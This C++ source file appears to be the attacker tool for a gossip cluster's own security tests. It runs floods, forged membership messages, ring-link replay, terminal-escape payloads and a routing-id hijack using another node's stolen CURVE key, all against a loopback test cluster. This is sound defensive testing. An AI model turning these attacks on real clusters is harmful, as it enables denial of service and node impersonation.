// gossip-attacker: the hostile processes of the attack tests (tests/security/).
// Each mode mounts one attack against a real cluster on loopback until it is
// killed (or for --seconds), and prints what it did, one line per event.
//
// A mode that poses as a node of a plain cluster takes the cluster's --run-id R (the
// routing id is then "node-N.R"); multipart-flood reads each daemon's from its command
// line.
//
//   gossip-attacker idle-connect --parent PID [--seconds S]
//     Finds the gossipd children of PID (gossipctl cluster) and holds an idle TCP
//     connection open to every port each of them listens on, opening a new one
//     whenever a daemon closes it: the unauthenticated stranger of finding 1.
//
//   gossip-attacker multipart-flood --parent PID --as-node N [--seconds S]
//     Speaks ZeroMQ to every port of every gossipd child of PID as node N (a routing
//     id is all an unauthenticated peer channel asks for) and sends one message
//     that never ends: 64 KiB frames, each marked "more" (finding 2). Connects
//     again when a daemon cuts it, and prints the daemons' peak memory each time.
//
//   gossip-attacker inspect-flood --target EP --listen EP --as-node N [--seconds S]
//     Poses as node N of a plain (no CURVE) cluster whose node N is not running: sends
//     the node at --target an ask for its link row and one for its status every 2 ms,
//     and answers the asks that reach it at --listen (node N's address, where the
//     others send) with a report whose strings hold terminal escapes and whose numbers
//     are as large as msgpack holds (gossipctl doctor's reports).
//
//   gossip-attacker forged-add --target EP --as-node N [--count K] [--id I] [--round R]
//     Poses as node N of a plain cluster and tells the node at --target that K nodes
//     joined (member adds nobody asked for), ids I, I + 1, ... (1000 unless told),
//     scheduled for round R (0 unless told: not scheduled).
//
//   gossip-attacker merge-offer --target EP --as-node N --id I --round R [--count K]
//     Poses as node N of a plain cluster whose nodes N and I are not running, and
//     offers the elastic ring at --target a merge with a ring [N, I] that claims to be
//     at round R (a ring-probe with merge = offer), and answers as an offerer does (a
//     merging probe listing every id up to its own, at round R), K times, 200 ms apart.
//
//   gossip-attacker ring-replay --listen PORT --target PORT --capture FILE [--seconds S]
//     A man in the middle on one ring link (loopback): takes the connection the
//     sender makes to --listen, sends the receiver at --target the bytes of FILE (a
//     whole connection recorded earlier: its hello, salt and sealed chunks) instead of
//     the sender's, relays the receiver's answer back to the sender, and swallows what
//     the sender sends. Prints what the receiver did.
//
//   gossip-attacker propose --target EP --as-node N --id I --listen EP2
//     Poses as node N of a plain cluster (a coordinator on the other side of a cut) and
//     proposes id I for a joiner at EP2 to the member at --target (a member propose).
//
//   gossip-attacker hijack --parent PID --key-of K --claim N [--seconds S]
//     With node K's own valid CURVE key (read from gossipctl cluster --curve's run
//     directory: a compromised node), connects to node 0 again and again presenting
//     node N's routing id, which ROUTER_HANDOVER used to hand it, cutting node N's
//     link (finding 9).

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <map>
#include <msgpack.hpp>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>
#include <zmq.hpp>

#include "proto/message.h"
#include "tests/security/zmtp_by_hand.h"

namespace {

namespace fs = std::filesystem;
using Clock = std::chrono::steady_clock;

[[noreturn]] void usage() {
  std::fprintf(stderr,
               "usage: gossip-attacker idle-connect --parent PID [--seconds S]\n"
               "       gossip-attacker multipart-flood --parent PID --as-node N [--seconds S]\n"
               "       gossip-attacker hijack --parent PID --key-of K --claim N [--seconds S]\n"
               "       gossip-attacker forged-add --target EP --as-node N [--count K] [--id I] "
               "[--round R]\n"
               "       gossip-attacker merge-offer --target EP --as-node N --id I --round R "
               "[--count K]\n"
               "       gossip-attacker inspect-flood --target EP --listen EP --as-node N "
               "[--seconds S]\n"
               "       gossip-attacker ring-replay --listen PORT --target PORT --capture FILE "
               "[--seconds S]\n"
               "       gossip-attacker propose --target EP --as-node N --id I --listen EP2\n");
  std::exit(2);
}

std::string read_file(const fs::path& p) {
  std::ifstream in(p);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

// The routing id of node N of the run `run` on a plain peer channel (gossipd's
// --run-id: not a secret, and gossipctl cluster's shows in the process list).
std::string routing_id(int node, const std::string& run) {
  return "node-" + std::to_string(node) + (run.empty() ? "" : "." + run);
}
std::string g_run_id;  // --run-id

// The --run-id on process `pid`'s command line, or "".
std::string run_id_of(int pid) {
  const std::string cmdline = read_file(fs::path("/proc") / std::to_string(pid) / "cmdline");
  std::vector<std::string> args;
  for (size_t at = 0; at < cmdline.size();) {
    const size_t end = cmdline.find('\0', at);
    args.push_back(cmdline.substr(at, end == std::string::npos ? std::string::npos : end - at));
    if (end == std::string::npos) break;
    at = end + 1;
  }
  for (size_t i = 0; i + 1 < args.size(); ++i)
    if (args[i] == "--run-id") return args[i + 1];
  return "";
}

// The pids of the gossipd processes whose parent is `parent`.
std::vector<int> daemons_of(int parent) {
  std::vector<int> out;
  std::error_code ec;
  for (const auto& e : fs::directory_iterator("/proc", ec)) {
    const std::string name = e.path().filename();
    if (name.find_first_not_of("0123456789") != std::string::npos) continue;
    const std::string stat = read_file(e.path() / "stat");
    // pid (comm) state ppid ...
    const auto open = stat.find('('), close = stat.rfind(')');
    if (open == std::string::npos || close == std::string::npos) continue;
    if (stat.substr(open + 1, close - open - 1) != "gossipd") continue;
    std::istringstream rest(stat.substr(close + 2));
    char state = 0;
    int ppid = 0;
    rest >> state >> ppid;
    if (ppid == parent) out.push_back(std::stoi(name));
  }
  return out;
}

// The TCP ports a process listens on: its socket inodes matched against /proc/net/tcp.
std::set<int> listening_ports(int pid) {
  std::set<std::string> inodes;
  std::error_code ec;
  for (const auto& e : fs::directory_iterator(fs::path("/proc") / std::to_string(pid) / "fd", ec)) {
    const std::string target = fs::read_symlink(e.path(), ec).string();
    if (!ec && target.starts_with("socket:[")) inodes.insert(target.substr(8, target.size() - 9));
  }
  std::set<int> ports;
  for (const char* table : {"/proc/net/tcp", "/proc/net/tcp6"}) {
    std::istringstream lines(read_file(table));
    std::string line;
    std::getline(lines, line);  // header
    while (std::getline(lines, line)) {
      std::istringstream f(line);
      std::string sl, local, remote, st, queues, tr, retr, uid, timeout, inode;
      f >> sl >> local >> remote >> st >> queues >> tr >> retr >> uid >> timeout >> inode;
      if (st != "0A" || !inodes.count(inode)) continue;  // 0A: LISTEN
      ports.insert(std::stoi(local.substr(local.find(':') + 1), nullptr, 16));
    }
  }
  return ports;
}

int connect_to(int port) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return -1;
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<uint16_t>(port));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) {
    ::close(fd);
    return -1;
  }
  return fd;
}

int idle_connect(int parent, double seconds) {
  std::map<int, int> held;  // port -> fd
  std::set<int> known;
  uint64_t opened = 0;
  const auto end = Clock::now() + std::chrono::duration<double>(seconds);
  while (Clock::now() < end) {
    for (int pid : daemons_of(parent))
      for (int port : listening_ports(pid))
        if (known.insert(port).second) std::printf("port %d of gossipd %d\n", port, pid);
    for (int port : known) {
      auto it = held.find(port);
      if (it != held.end()) {
        // Closed by the daemon (EOF or reset): open another one.
        pollfd p{it->second, POLLIN, 0};
        char byte;
        if (::poll(&p, 1, 0) == 1 && ::recv(it->second, &byte, 1, MSG_DONTWAIT) <= 0) {
          ::close(it->second);
          held.erase(it);
        } else {
          continue;
        }
      }
      const int fd = connect_to(port);
      if (fd >= 0) {
        held[port] = fd;
        ++opened;
      }
    }
    std::fflush(stdout);
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  std::printf("opened %llu idle connections to %zu ports\n",
              static_cast<unsigned long long>(opened), known.size());
  return 0;
}

// The most memory `pid` has held (VmHWM), in MiB, or -1.
long peak_mib(int pid) {
  const std::string status = read_file(fs::path("/proc") / std::to_string(pid) / "status");
  const auto at = status.find("VmHWM:");
  return at == std::string::npos ? -1 : std::atol(status.c_str() + at + 6) / 1024;
}

int multipart_flood(int parent, int as_node, double seconds) {
  std::map<int, int> sockets;  // port -> a connection sending one endless message
  std::map<int, size_t> at;    // port -> where its frame stands
  const auto end = Clock::now() + std::chrono::duration<double>(seconds);
  const std::vector<unsigned char> frame = gossip::testing::zmtp_more_frame(64 << 10);
  uint64_t sent = 0;
  auto scanned = Clock::now() - std::chrono::seconds(1);
  while (Clock::now() < end) {
    // Reading /proc is slow: a scan every loop would throttle the flood to a few MB/s.
    const bool scan = Clock::now() - scanned > std::chrono::milliseconds(250);
    if (scan) scanned = Clock::now();
    for (int pid : scan ? daemons_of(parent) : std::vector<int>{})
      for (int port : listening_ports(pid)) {
        if (sockets.count(port)) continue;
        const int fd = connect_to(port);
        if (fd < 0) continue;
        timeval tv{2, 0};
        ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
        ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
        if (!gossip::testing::zmtp_hello(fd, routing_id(as_node, run_id_of(pid)))) {
          ::close(fd);
          sockets[port] = -1;  // not ZeroMQ (the ring's port): left alone
          continue;
        }
        std::printf("flooding port %d of gossipd %d as node %d\n", port, pid, as_node);
        sockets[port] = fd;
      }
    bool any = false;
    for (auto& [port, fd] : sockets) {
      if (fd < 0) continue;
      const ssize_t n = gossip::testing::zmtp_push(fd, frame, at[port], 20);
      if (n > 0) sent += static_cast<uint64_t>(n), any = true;
      if (n < 0) {
        std::printf("port %d closed the connection after %llu MiB\n", port,
                    static_cast<unsigned long long>(sent >> 20));
        for (int pid : daemons_of(parent))
          std::printf("gossipd %d peak memory %ld MiB\n", pid, peak_mib(pid));
        ::close(fd);
        fd = -1;
        at.erase(port);
        sockets.erase(port);  // connect again: the attack goes on
        break;
      }
    }
    std::fflush(stdout);
    if (!any) std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  std::printf("sent %llu MiB of one unending message\n",
              static_cast<unsigned long long>(sent >> 20));
  return 0;
}

// The command line of a process, one string per argument.
std::vector<std::string> cmdline_of(int pid) {
  const std::string raw = read_file(fs::path("/proc") / std::to_string(pid) / "cmdline");
  std::vector<std::string> args;
  for (size_t at = 0; at < raw.size();) {
    const size_t end = raw.find('\0', at);
    args.push_back(raw.substr(at, end - at));
    if (end == std::string::npos) break;
    at = end + 1;
  }
  return args;
}

std::string flag_value(const std::vector<std::string>& args, const std::string& flag,
                       const std::string& prefix = "") {
  for (size_t i = 0; i + 1 < args.size(); ++i)
    if (args[i] == flag && args[i + 1].starts_with(prefix))
      return args[i + 1].substr(prefix.size());
  return "";
}

int hijack(int parent, int key_of, int claim, double seconds) {
  const auto end = Clock::now() + std::chrono::duration<double>(seconds);
  std::string endpoint, server_key, secret;
  while (Clock::now() < end && (endpoint.empty() || server_key.empty() || secret.empty())) {
    for (int pid : daemons_of(parent)) {
      const auto args = cmdline_of(pid);
      if (flag_value(args, "--id") == "0") endpoint = flag_value(args, "--listen");
      if (server_key.empty()) server_key = flag_value(args, "--peer-key", "0=");
      const std::string dir = flag_value(args, "--run-dir");
      const std::string toml =
          read_file(fs::path(dir) / ("node-" + std::to_string(key_of) + ".toml"));
      if (const auto q = toml.find('"'); q != std::string::npos)
        secret = toml.substr(q + 1, toml.find('"', q + 1) - q - 1);
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  if (endpoint.empty() || server_key.empty() || secret.empty()) {
    std::printf("found no CURVE cluster\n");
    return 1;
  }
  char pub[41] = {};
  zmq_curve_public(pub, secret.c_str());
  std::printf("node %d's key, claiming node %d, against node 0 at %s\n", key_of, claim,
              endpoint.c_str());
  zmq::context_t context;
  uint64_t connections = 0;
  while (Clock::now() < end) {
    zmq::socket_t s(context, zmq::socket_type::dealer);
    s.set(zmq::sockopt::routing_id, "node-" + std::to_string(claim));
    s.set(zmq::sockopt::curve_serverkey, server_key);
    s.set(zmq::sockopt::curve_publickey, std::string(pub));
    s.set(zmq::sockopt::curve_secretkey, secret);
    s.set(zmq::sockopt::linger, 0);
    s.connect(endpoint);
    s.send(zmq::str_buffer("hijacked"), zmq::send_flags::dontwait);
    ++connections;
    std::fflush(stdout);
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
  std::printf("connected %llu times as node %d\n", static_cast<unsigned long long>(connections),
              claim);
  return 0;
}

// A link row (proto/inspect.h's layout) as a hostile node writes it: escapes in every
// string, the largest doubles, more than a terminal wants.
std::string hostile_row(int node) {
  const std::string evil = "\x1b[2J\x1b]0;owned\x07\x1b[31mEVIL" + std::string(1000, 'A');
  msgpack::sbuffer buf;
  msgpack::packer<msgpack::sbuffer> pk(buf);
  pk.pack_array(4);
  pk.pack(node);
  pk.pack_array(3), pk.pack(evil), pk.pack(evil), pk.pack(false);
  pk.pack_array(1);
  pk.pack_array(23);
  // to, endpoint, connect, connect_error, connect_ms, handshake
  pk.pack(0), pk.pack(evil), pk.pack(0), pk.pack(evil), pk.pack(1e300), pk.pack(1);
  // connects, disconnects, handshake_failures, pings, pongs
  for (int i = 0; i < 5; ++i) pk.pack(uint64_t{1} << 62);
  // rtt, clock offset and error, tcp rtt; segments sent and retransmitted; bandwidth
  pk.pack(1e300), pk.pack(-1e300), pk.pack(1e300), pk.pack(1e300);
  pk.pack(uint64_t{1} << 62), pk.pack(uint64_t{1} << 62), pk.pack(1e300);
  // version, strategy, silent_ms, refused, last_refusal
  pk.pack(evil), pk.pack(evil), pk.pack(1e300), pk.pack(uint64_t{7}), pk.pack(evil);
  pk.pack_array(1), pk.pack(evil);
  return std::string(buf.data(), buf.size());
}

int inspect_flood(const std::string& target, const std::string& listen, int as_node,
                  double seconds) {
  using gossip::proto::Inspect;
  const auto end = Clock::now() + std::chrono::duration<double>(seconds);
  zmq::context_t context;
  zmq::socket_t out(context, zmq::socket_type::dealer);
  out.set(zmq::sockopt::routing_id, routing_id(as_node, g_run_id));
  out.set(zmq::sockopt::linger, 0);
  out.connect(target);
  zmq::socket_t in(context, zmq::socket_type::router);
  in.set(zmq::sockopt::linger, 0);
  in.bind(listen);
  const auto send = [&](const Inspect& m, const std::string& payload) {
    const std::string head =
        gossip::proto::encode_head(static_cast<uint32_t>(as_node), 0, m, payload.size());
    const auto more = payload.empty() ? zmq::send_flags::dontwait
                                      : zmq::send_flags::sndmore | zmq::send_flags::dontwait;
    (void)out.send(zmq::buffer(head), more);
    if (!payload.empty()) (void)out.send(zmq::buffer(payload), zmq::send_flags::dontwait);
  };
  uint64_t asks = 0, answered = 0;
  while (Clock::now() < end) {
    send(Inspect{Inspect::kAskLinks, asks, 0, 60000}, "");
    send(Inspect{Inspect::kAskStatus, asks, 0, 0}, "");
    asks += 2;
    zmq::pollitem_t item{in.handle(), 0, ZMQ_POLLIN, 0};
    if (zmq::poll(&item, 1, std::chrono::milliseconds(2)) == 0) continue;
    std::vector<zmq::message_t> frames;
    zmq::message_t f;
    while (in.recv(f, zmq::recv_flags::dontwait)) {
      const bool more = f.more();
      frames.push_back(std::move(f));
      if (!more) break;
    }
    if (frames.size() < 2) continue;
    auto m = gossip::proto::decode_head(frames[1].data(), frames[1].size());
    if (!m) continue;
    const auto* ask = std::get_if<Inspect>(&m->body);
    if (ask && ask->what == Inspect::kAskLinks) {
      send(Inspect{Inspect::kLinks, ask->nonce, 0, 0}, hostile_row(as_node));
      ++answered;
    }
  }
  std::printf("sent %llu asks as node %d; answered %llu asks with a hostile row\n",
              static_cast<unsigned long long>(asks), as_node,
              static_cast<unsigned long long>(answered));
  return 0;
}

}  // namespace

// A DEALER at `target` with node N's routing id: all a plain peer channel asks of a peer.
zmq::socket_t dealer_as(zmq::context_t& context, const std::string& target, int as_node) {
  zmq::socket_t out(context, zmq::socket_type::dealer);
  out.set(zmq::sockopt::routing_id, routing_id(as_node, g_run_id));
  out.set(zmq::sockopt::linger, 2000);
  out.connect(target);
  return out;
}

// Poses as node N of a plain cluster and sends the node at `target` `count` adds of
// members that never asked to join (ids 1000 on, endpoints on loopback), 1 ms apart.
int forged_add(const std::string& target, int as_node, int count, uint32_t first_id,
               uint64_t round) {
  using gossip::proto::Member;
  zmq::context_t context;
  zmq::socket_t out = dealer_as(context, target, as_node);
  for (int i = 0; i < count; ++i) {
    const std::string endpoint = "tcp://127.0.0.1:" + std::to_string(20000 + i);
    const std::string head = gossip::proto::encode_head(
        static_cast<uint32_t>(as_node), round,
        Member{Member::kAdd, first_id + static_cast<uint32_t>(i), static_cast<uint64_t>(i + 1)},
        endpoint.size());
    (void)out.send(zmq::buffer(head), zmq::send_flags::sndmore);
    (void)out.send(zmq::buffer(endpoint));
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  std::printf("sent %d forged adds\n", count);
  return 0;
}

int propose(const std::string& target, int as_node, uint32_t id, const std::string& endpoint) {
  using gossip::proto::Member;
  zmq::context_t context;
  zmq::socket_t out = dealer_as(context, target, as_node);
  const std::string head = gossip::proto::encode_head(
      static_cast<uint32_t>(as_node), 0, Member{Member::kPropose, id, 3}, endpoint.size());
  (void)out.send(zmq::buffer(head), zmq::send_flags::sndmore);
  (void)out.send(zmq::buffer(endpoint));
  std::printf("proposed id %u for %s\n", id, endpoint.c_str());
  return 0;
}

int merge_offer(const std::string& target, int as_node, uint32_t other, uint64_t round, int count) {
  using gossip::proto::RingProbe;
  zmq::context_t context;
  zmq::socket_t out = dealer_as(context, target, as_node);
  const auto encode = [](const std::vector<uint32_t>& ids) {
    std::string out(4 * ids.size(), '\0');
    for (size_t i = 0; i < ids.size(); ++i)
      for (int b = 0; b < 4; ++b)
        out[4 * i + b] = static_cast<char>((ids[i] >> (8 * b)) & 0xff);  // little-endian
    return out;
  };
  const std::string view = encode({static_cast<uint32_t>(as_node), other});
  // The union it claims to merge into: every id up to its own.
  std::vector<uint32_t> all;
  for (uint32_t id = 0; id <= std::max(static_cast<uint32_t>(as_node), other); ++id)
    all.push_back(id);
  const std::string union_ids = encode(all);
  const auto send = [&](RingProbe probe, const std::string& members) {
    const std::string head =
        gossip::proto::encode_head(static_cast<uint32_t>(as_node), round, probe, members.size());
    (void)out.send(zmq::buffer(head), zmq::send_flags::sndmore);
    (void)out.send(zmq::buffer(members));
  };
  for (int i = 0; i < count; ++i) {
    send(RingProbe{7, 7, false, 2, RingProbe::kOffer}, view);
    // An offer is only vouched for; its sender is heard by the merging probe with
    // which it answers the target's, as a real offerer does.
    send(RingProbe{7, 7, false, all.size(), RingProbe::kMerging}, union_ids);
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
  std::printf("sent %d merge offers claiming round %llu\n", count,
              static_cast<unsigned long long>(round));
  return 0;
}

// Loopback TCP, in plain sockets: what the attacker speaks is bytes, not a protocol.
int loopback_socket(int port, bool listen) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<uint16_t>(port));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  const int one = 1;
  ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  const bool ok =
      listen ? ::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0 && ::listen(fd, 4) == 0
             : ::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0;
  if (!ok) {
    std::fprintf(stderr, "loopback port %d: %s\n", port, std::strerror(errno));
    ::close(fd);
    return -1;
  }
  return fd;
}

int ring_replay(int listen_port, int target_port, const std::string& capture, double seconds) {
  const std::string recorded = read_file(capture);
  if (recorded.empty()) {
    std::fprintf(stderr, "ring-replay: %s is empty or missing\n", capture.c_str());
    return 1;
  }
  const int listener = loopback_socket(listen_port, true);
  if (listener < 0) return 1;
  const auto end = Clock::now() + std::chrono::duration<double>(seconds);
  pollfd p{listener, POLLIN, 0};
  while (Clock::now() < end && ::poll(&p, 1, 50) == 0) {
  }
  const int sender = ::accept(listener, nullptr, nullptr);
  const int receiver = sender >= 0 ? loopback_socket(target_port, false) : -1;
  if (receiver < 0) return 1;
  std::printf("replaying %zu recorded bytes to port %d\n", recorded.size(), target_port);
  std::fflush(stdout);
  if (::send(receiver, recorded.data(), recorded.size(), MSG_NOSIGNAL) !=
      static_cast<ssize_t>(recorded.size()))
    std::printf("the receiver closed the connection during the replay\n");
  std::vector<char> buf(1 << 16);
  bool sender_open = true;
  while (Clock::now() < end) {
    pollfd fds[2] = {{receiver, POLLIN, 0}, {sender_open ? sender : -1, POLLIN, 0}};
    if (::poll(fds, 2, 50) <= 0) continue;
    if (fds[0].revents) {  // the receiver's answer goes to the sender; its close ends this
      const ssize_t n = ::recv(receiver, buf.data(), buf.size(), 0);
      if (n <= 0) {
        std::printf("the receiver closed the connection\n");
        break;
      }
      std::printf("relayed %zd bytes from the receiver\n", n);
      (void)::send(sender, buf.data(), static_cast<size_t>(n), MSG_NOSIGNAL);
    }
    if (fds[1].revents && ::recv(sender, buf.data(), buf.size(), 0) <= 0) sender_open = false;
  }
  ::close(receiver);
  ::close(sender);
  ::close(listener);
  return 0;
}

int main(int argc, char** argv) {
  if (argc < 2) usage();
  const std::string mode = argv[1];
  int parent = -1, as_node = -1, key_of = -1, claim = -1, count = 1;
  std::string target, listen, capture;
  double seconds = 3600;
  uint32_t first_id = 1000;
  uint64_t round = 0;
  for (int i = 2; i + 1 < argc; i += 2) {
    const std::string flag = argv[i];
    if (flag == "--parent")
      parent = std::atoi(argv[i + 1]);
    else if (flag == "--key-of")
      key_of = std::atoi(argv[i + 1]);
    else if (flag == "--claim")
      claim = std::atoi(argv[i + 1]);
    else if (flag == "--count")
      count = std::atoi(argv[i + 1]);
    else if (flag == "--as-node")
      as_node = std::atoi(argv[i + 1]);
    else if (flag == "--id")
      first_id = static_cast<uint32_t>(std::strtoul(argv[i + 1], nullptr, 10));
    else if (flag == "--round")
      round = std::strtoull(argv[i + 1], nullptr, 10);
    else if (flag == "--seconds")
      seconds = std::atof(argv[i + 1]);
    else if (flag == "--target")
      target = argv[i + 1];
    else if (flag == "--listen")
      listen = argv[i + 1];
    else if (flag == "--capture")
      capture = argv[i + 1];
    else if (flag == "--run-id")
      g_run_id = argv[i + 1];
    else
      usage();
  }
  if (mode == "idle-connect" && parent > 0) return idle_connect(parent, seconds);
  if (mode == "hijack" && parent > 0 && key_of >= 0 && claim >= 0)
    return hijack(parent, key_of, claim, seconds);
  if (mode == "inspect-flood" && !target.empty() && !listen.empty() && as_node >= 0)
    return inspect_flood(target, listen, as_node, seconds);
  if (mode == "forged-add" && !target.empty() && as_node >= 0)
    return forged_add(target, as_node, count, first_id, round);
  if (mode == "propose" && !target.empty() && !listen.empty() && as_node >= 0)
    return propose(target, as_node, first_id, listen);
  if (mode == "merge-offer" && !target.empty() && as_node >= 0)
    return merge_offer(target, as_node, first_id, round, count);
  if (mode == "ring-replay" && !listen.empty() && !target.empty() && !capture.empty())
    return ring_replay(std::atoi(listen.c_str()), std::atoi(target.c_str()), capture, seconds);
  if (mode == "multipart-flood" && parent > 0 && as_node >= 0)
    return multipart_flood(parent, as_node, seconds);
  usage();
}
